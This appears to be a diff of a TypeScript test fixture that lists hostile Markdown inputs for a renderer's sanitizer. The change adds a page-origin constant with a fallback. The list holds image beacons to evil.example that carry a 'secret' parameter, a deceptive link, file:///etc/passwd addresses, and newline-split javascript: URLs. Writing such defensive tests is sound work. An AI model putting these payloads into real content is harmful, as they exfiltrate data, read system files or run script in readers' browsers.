@@ -1,5 +1,7 @@
 // Documents that try to run code, fetch something or break the page: [what it tries, text].
 
+/** The page's own; the preview reads this file without a page. */
+const OUR_ORIGIN = globalThis.location?.origin ?? "http://127.0.0.1";
 const BEACON = "https://evil.example/p.png?d=secret";
 
 export const HOSTILE: [string, string][] = [
@@ -57,7 +59,7 @@ export const HOSTILE: [string, string][] = [
   ["a beacon in a footnote", `x[^1]\n\n[^1]: ![y](${BEACON})`],
   ["a beacon in a table", `| a |\n|---|\n| ![y](${BEACON}) |`],
   ["a link whose text is another address", "[https://bank.example](https://evil.example)"],
-  ["an address of our own, written in full", `[x](${location.origin}/api/session)`],
+  ["an address of our own, written in full", `[x](${OUR_ORIGIN}/api/session)`],
   ["a file address", "[x](file:///etc/passwd) ![y](file:///etc/passwd)"],
   ["a blob and a view-source address", "[x](blob:https://a.example/1) [y](view-source:https://a.example)"],
   ["an address with a new line in it", "[x](java\nscript:alert(1)) <java\nscript:alert(1)>"],
